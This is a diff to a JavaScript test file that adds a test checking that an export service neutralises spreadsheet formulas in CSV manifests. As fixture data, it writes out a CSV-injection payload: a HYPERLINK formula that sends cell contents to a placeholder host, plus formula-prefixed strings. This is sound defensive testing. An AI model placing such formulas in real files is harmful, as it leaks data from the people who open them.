@@ -232,6 +232,33 @@ describe('exports', () => {
     expect((await readZip(older)).map((e) => e.name)).toContain('manifest.csv');
   });
 
+  it('neutralises spreadsheet formulas in the export manifest and the batch manifest.csv', async () => {
+    const formula = '=HYPERLINK("http://x/?"&A1,"open")';
+    const finished = until((events) => events.some((e) => e.type === 'batch.finished'));
+    await service.startQueue();
+    const batch = await api.batches.create({
+      source: { kind: 'rows', rows: [{ prompt: formula }, { prompt: '@SUM(A1:A9)' }] },
+      name: '+cmd',
+      defaults: { model: 'flux-schnell', size: '256x256', response_format: 'b64_json' },
+      position: 'back',
+    });
+    await finished;
+    const started = await api.exports.start({ source: { query: {} } });
+    await ended(started.id!);
+    const { rows } = manifestOf(await readZip(started.path!));
+    expect(rows.map((r) => r.prompt).sort()).toEqual([`'${formula}`, "'@SUM(A1:A9)"]);
+    expect(rows.every((r) => r.batch === "'+cmd")).toBe(true);
+    const { folder } = await api.batches.get({ id: batch.id });
+    const written = parseCsv(readFileSync(path.join(folder, 'manifest.csv'), 'utf8'));
+    const prompt = written[0]!.indexOf('prompt');
+    expect(
+      written
+        .slice(1)
+        .map((r) => r[prompt])
+        .sort(),
+    ).toEqual([`'${formula}`, "'@SUM(A1:A9)"]);
+  });
+
   it('keeps its folder apart from the batches: a batch named "Exports" gets another', async () => {
     await makeLibrary();
     const finished = until((events) => events.some((e) => e.type === 'batch.finished'));
